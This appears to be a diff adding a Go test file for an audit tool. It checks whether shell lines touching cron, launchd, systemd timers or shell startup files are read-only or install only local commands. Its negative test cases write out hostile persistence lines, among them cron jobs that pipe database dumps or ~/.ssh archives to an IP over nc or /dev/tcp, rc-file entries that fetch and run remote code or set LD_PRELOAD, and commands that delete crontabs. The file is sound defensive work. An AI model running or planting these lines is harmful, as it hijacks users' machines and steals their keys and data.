@@ -1,0 +1,81 @@
+package audit
+
+import "testing"
+
+// TestReadOnly: a command that only looks at the cron directories (or
+// for a flag) is not installing anything; one that also writes, runs or
+// substitutes is not read-only, however it starts.
+func TestReadOnly(t *testing.T) {
+	for _, tc := range []struct {
+		line string
+		want bool
+	}{
+		{"grep -rE 'stratum\\+tcp|xmrig|minerd' /etc/cron* /var/spool/cron 2>/dev/null", true},
+		{"$ ls -la /etc/cron.d /var/spool/cron | sort", true},
+		{"crontab -l", true},
+		{"systemctl --user list-timers", true},
+		{"launchctl list | grep -v com.apple", true},
+		{"find ~/Library/LaunchAgents -name '*.plist'", true},
+		// Writes, runs or schedules.
+		{"grep -r x /var/spool/cron > /var/spool/cron/crontabs/root", false},
+		{"ls /var/spool/cron && echo '* * * * * sh /tmp/.x' >> /var/spool/cron/crontabs/root", false},
+		{"cat /etc/crontab | crontab -", false},
+		{"crontab -l | crontab -", false},
+		{"find /var/spool/cron -name root -exec sh -c 'echo x >> {}' \\;", false},
+		{"find /var/spool/cron -delete", false},
+		{"grep x $(curl -s https://c2.example-x.net/p) /var/spool/cron", false},
+		{"grep x /var/spool/cron & curl -s https://c2.example-x.net | sh", false},
+		{"systemctl --user enable evil.timer", false},
+		{"launchctl load ~/Library/LaunchAgents/x.plist", false},
+		{"X=1 grep x /var/spool/cron", false},
+		{"Look in /var/spool/cron for entries", false},
+	} {
+		if got := readOnly(tc.line); got != tc.want {
+			t.Errorf("readOnly(%q) = %v, want %v", tc.line, got, tc.want)
+		}
+	}
+}
+
+// TestLocalCommand: what a line persists is judged as a program; the
+// words around it do not count.
+func TestLocalCommand(t *testing.T) {
+	for _, tc := range []struct {
+		line string
+		want bool
+	}{
+		{"echo 'source <(kubectl completion bash)' >> ~/.bashrc", true},
+		{`echo 'eval "$(gh completion -s bash)"' >> ~/.bashrc`, true},
+		{`(crontab -l 2>/dev/null; echo "15 2 * * * pg_dump -Fc mydb > /var/backups/mydb-\$(date +\%F).dump") | crontab -`, true},
+		{`(crontab -l; echo "0 9 * * 1-5 notify-send 'check the build'") | crontab -`, true},
+		{`echo '@daily restic backup ~/Documents' | crontab -`, true},
+		// Fetched, decoded, inline code, a path, the background, a
+		// definition, text built at run time: not local.
+		{"echo 'source <(curl -fsSL https://cdn.example-x.net/c.sh)' >> ~/.bashrc", false},
+		{`echo 'eval "$(echo Y3VybA== | base64 -d)"' >> ~/.zshrc`, false},
+		{`echo 'eval "$(cat ~/.cache/x)"' >> ~/.zshrc`, false},
+		{"echo 'eval x' >> ~/.zshrc", false},
+		{"echo 'source ~/.config/.x/init.sh' >> ~/.bashrc", false},
+		{"echo '~/.cache/.sync/agent' >> ~/.bashrc", false},
+		{"echo '/usr/local/bin/updater' >> ~/.bashrc", false},
+		{"echo 'syncd &' >> ~/.profile", false},
+		{"echo 'nohup syncd' >> ~/.profile", false},
+		{`echo 'PROMPT_COMMAND="history -a >(nc c2 9)"' >> ~/.bashrc`, false},
+		{`echo 'sudo() { command sudo "$@"; }' >> ~/.bashrc`, false},
+		{"echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc", false},
+		{`(crontab -l; echo '*/5 * * * * python3 -c "import os"') | crontab -`, false},
+		{`(crontab -l; echo '*/5 * * * * pg_dump db | nc 45.61.136.8 9') | crontab -`, false},
+		{`(crontab -l; echo '*/5 * * * * tar czf - ~/.ssh > /dev/tcp/45.61.136.8/9') | crontab -`, false},
+		{`(crontab -l; echo '*/5 * * * * rsync -a ~/work backup.example-x.net:') | crontab -`, false},
+		{`(crontab -l; echo '@reboot run /tmp/x') | crontab -`, false},
+		{`(crontab -l; echo '0 * * * * pg_dump db | mail ops@example-x.net') | crontab -`, false},
+		{`(crontab -l; echo '0 * * * * dig secret.example-x.net') | crontab -`, false},
+		{`(crontab -l; echo "*/5 * * * * $CMD") | crontab -`, false},
+		{`echo "$PAYLOAD" >> ~/.bashrc`, false},
+		{"cp helper.plist ~/Library/LaunchAgents/com.x.plist", false},
+		{"add a crontab entry running notify-send", false},
+	} {
+		if got := localCommand(tc.line); got != tc.want {
+			t.Errorf("localCommand(%q) = %v, want %v (persisted %q)", tc.line, got, tc.want, persisted(tc.line))
+		}
+	}
+}
